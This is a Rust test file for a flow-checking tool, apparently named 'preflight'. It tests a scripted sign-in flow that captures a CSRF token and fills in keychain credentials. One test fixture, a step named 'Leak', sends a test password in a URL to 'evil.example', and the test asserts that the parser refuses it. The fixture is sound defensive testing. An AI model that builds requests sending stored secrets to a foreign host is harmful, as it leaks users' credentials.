//! A path of the founder's own (`template = "steps"`) against the loopback app: the sign-in page's
//! CSRF token captured and sent back, the test account's keys filled in from the keychain, the
//! signed-in page asserted; and the broken twins: text that is not there, a capture the page does
//! not give, a step that would send a key to another domain.

mod common;

use common::{bed, keys};
use preflight_core::Domain;
use preflight_flows::config::parse;
use preflight_flows::FlowStatus;
use preflight_testbed::apps::{Behaviour, PASSWORD};

const D: &str = "steps.test";

fn tables(text: &str) -> Vec<toml::Table> {
    let doc: toml::Table = toml::from_str(text).expect("toml");
    doc.get("flows").and_then(|f| f.as_array()).map(|a| a.iter().filter_map(|t| t.as_table().cloned()).collect()).unwrap_or_default()
}

fn path(expect: &str, capture: &str) -> String {
    format!(
        r#"[[flows]]
name = "Sign in by hand"
template = "steps"
[[flows.steps]]
name = "Open the sign-in page"
url = "https://app.{D}/login"
expect_text = "Sign in"
capture = {{ csrf = "{capture}" }}
[[flows.steps]]
name = "Sign in"
method = "POST"
url = "https://app.{D}/session"
headers = {{ "content-type" = "application/x-www-form-urlencoded" }}
body = "csrf={{{{csrf}}}}&email={{{{key:test-user}}}}&password={{{{key:test-password}}}}"
expect_text = "{expect}"
kind = "write"
"#
    )
}

fn domain() -> Domain {
    Domain::parse(D).expect("domain")
}

#[tokio::test]
async fn a_path_of_ones_own_captures_the_token_fills_in_the_keys_and_asserts_the_page() {
    let (_bed, net) = bed(D, Behaviour::Works).await;
    let flows = parse(&domain(), &tables(&path("Your account", "hidden:csrf"))).expect("valid");
    let r = preflight_flows::run(&net, &domain(), &flows[0], &keys(PASSWORD)).await;
    assert_eq!(r.status, FlowStatus::Pass, "{r:#?}");
    assert_eq!(r.steps.len(), 2);
    let shown = format!("{r:?}");
    assert!(!shown.contains(PASSWORD) && !shown.contains("csrf-s"), "no key and no captured value in the result: {shown}");

    let missing_text = parse(&domain(), &tables(&path("Billing", "hidden:csrf"))).expect("valid");
    let r = preflight_flows::run(&net, &domain(), &missing_text[0], &keys(PASSWORD)).await;
    assert_eq!(r.status, FlowStatus::Fail);
    assert!(r.says.contains("step 2") && r.says.contains("without \"Billing\""), "{}", r.says);

    let no_capture = parse(&domain(), &tables(&path("Your account", "hidden:token"))).expect("valid");
    let r = preflight_flows::run(&net, &domain(), &no_capture[0], &keys(PASSWORD)).await;
    assert_eq!((r.status, r.steps.len()), (FlowStatus::Fail, 1), "{r:#?}");
    assert!(r.says.contains("without the csrf"), "{}", r.says);
}

#[test]
fn a_step_that_would_send_a_key_elsewhere_or_use_what_nothing_captured_is_refused_in_the_settings() {
    let foreign = "[[flows]]\nname = \"X\"\ntemplate = \"steps\"\n[[flows.steps]]\nname = \"Leak\"\nurl = \"https://evil.example/?k={{key:test-password}}\"\n";
    let err = parse(&domain(), &tables(foreign)).expect_err("foreign").to_string();
    assert!(err.contains("url"), "{err}");
    let unknown = format!(
        "[[flows]]\nname = \"X\"\ntemplate = \"steps\"\n[[flows.steps]]\nname = \"Use\"\nurl = \"https://app.{D}/x?t={{{{token}}}}\"\n"
    );
    assert!(parse(&domain(), &tables(&unknown)).expect_err("unknown").to_string().contains("which no step before it captures"));
    let header = format!("[[flows]]\nname = \"X\"\ntemplate = \"steps\"\n[[flows.steps]]\nname = \"H\"\nurl = \"https://app.{D}/\"\nheaders = {{ authorization = \"Bearer literal\" }}\n");
    assert!(parse(&domain(), &tables(&header)).expect_err("literal credential").to_string().contains("{{key:NAME}}"));
}
